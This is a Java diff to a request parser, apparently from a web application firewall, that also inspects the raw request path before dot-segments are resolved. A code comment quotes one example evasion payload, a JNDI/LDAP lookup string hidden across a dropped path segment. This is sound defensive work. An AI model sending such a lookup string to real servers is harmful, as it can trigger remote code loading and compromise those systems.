@@ -91,6 +91,13 @@ final class RequestParser {
             values.add(new RequestValue(Location.value(Source.PATH_PARAMETER, Integer.toString(parameter.segment())),
                     parameter.raw(), parameter.decoded(), parameter.flags()));
         }
+        if (path.flags().contains(DecodingFlag.DOT_SEGMENTS)) {
+            // The application reads getRequestURI() before dot-segments are resolved: a payload that
+            // spans a dropped segment (/t/..;${jndi:ldap://h/a}/y) is whole only in that reading.
+            DecodedText unresolved = decoder.decode(request.rawPath(), false);
+            values.add(new RequestValue(Location.value(Source.PATH, ""), request.rawPath(), unresolved.text(),
+                    unresolved.flags()));
+        }
         CountingSink sink = new CountingSink(values, limits.parameterCount());
         if (request.rawQuery() != null && !request.rawQuery().isEmpty()) {
             parameterParser.parse(request.rawQuery(), Source.QUERY, sink);
